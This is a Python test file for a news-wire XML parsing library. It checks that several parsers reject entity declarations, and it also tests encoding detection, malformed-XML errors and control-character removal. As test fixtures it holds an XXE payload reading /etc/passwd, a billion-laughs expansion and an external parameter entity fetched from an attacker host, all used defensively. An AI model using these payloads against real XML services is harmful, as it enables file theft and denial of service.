"""Every XML-reading parser refuses entity tricks before reading anything."""

from pathlib import Path

import pytest

from articles.wire.base import WireError
from articles.wire.feed import FeedParser
from articles.wire.newsml import NewsMLG2Parser
from articles.wire.newsml1 import NewsML1Parser
from articles.wire.nitf import NITFParser
from articles.wire.xmlutil import decode_xml, root_name

SAMPLES = Path(__file__).parent / "fixtures" / "wire-samples"
XML_PARSERS = [NITFParser, NewsMLG2Parser, NewsML1Parser, FeedParser]

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<nitf><body><body.content><p>&xxe;</p></body.content></body></nitf>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss><channel><item><title>&lol3;</title></item></channel></rss>"""

EXTERNAL_PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE newsMessage [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<newsMessage/>"""


@pytest.mark.parametrize("parser", XML_PARSERS)
@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (XXE, "XML declares entities (refused for safety): xxe"),
        (BILLION_LAUGHS, "XML declares entities (refused for safety): lol"),
        (EXTERNAL_PARAMETER_ENTITY, "XML declares entities (refused for safety): remote"),
    ],
)
def test_entities_are_refused(parser, raw, message):
    with pytest.raises(WireError) as caught:
        parser().parse(raw)
    assert str(caught.value) == message


def test_doctype_naming_a_dtd_without_entities_still_parses():
    raw = (SAMPLES / "nitf" / "nitf-fishing.xml").read_bytes()
    assert b"<!DOCTYPE nitf SYSTEM" in raw
    [story] = NITFParser().parse(raw)
    assert story.source_id == "iptc.321656141.b"


def test_malformed_xml_names_the_place():
    with pytest.raises(WireError, match=r"^malformed XML: mismatched tag: line 3, column 2$"):
        NITFParser().parse(b"<nitf>\n<p>\n</nitf>")


def test_encoding_sniffing():
    utf8_latin_declared = '<?xml version="1.0" encoding="iso-8859-1"?><a>Décès</a>'.encode()
    assert decode_xml(utf8_latin_declared) == (
        "<a>Décès</a>",
        ["declared encoding iso-8859-1 but content is UTF-8; read as UTF-8"],
    )
    real_latin = '<?xml version="1.0" encoding="iso-8859-1"?><a>£</a>'.encode("latin-1")
    assert decode_xml(real_latin) == ("<a>£</a>", [])
    bad_utf8 = "<a>Müller</a>".encode("latin-1")
    assert decode_xml(bad_utf8) == (
        "<a>Müller</a>",
        ["content is not valid utf-8; read as windows-1252"],
    )
    utf16 = '<?xml version="1.0" encoding="utf-16"?><a>ü</a>'.encode("utf-16")
    assert decode_xml(utf16) == ("<a>ü</a>", [])


def test_control_characters_are_removed_with_a_warning():
    [story] = NITFParser().parse(b"<nitf><body><body.content><p>a\x0bb</p></body.content></body></nitf>")
    assert story.paragraphs == ["ab"]
    assert story.warnings == ["removed 1 control character(s) not allowed in XML"]


@pytest.mark.parametrize(
    ("raw", "name"),
    [
        (b'\xef\xbb\xbf<?xml version="1.0"?><!--x--><!DOCTYPE nitf SYSTEM "a.dtd"><nitf/>', "nitf"),
        (b"<?xml version='1.0'?>\n<ns0:newsMessage xmlns:ns0='x'>", "newsMessage"),
        (b"plain text", ""),
        (b"", ""),
    ],
)
def test_root_name(raw, name):
    assert root_name(raw) == name
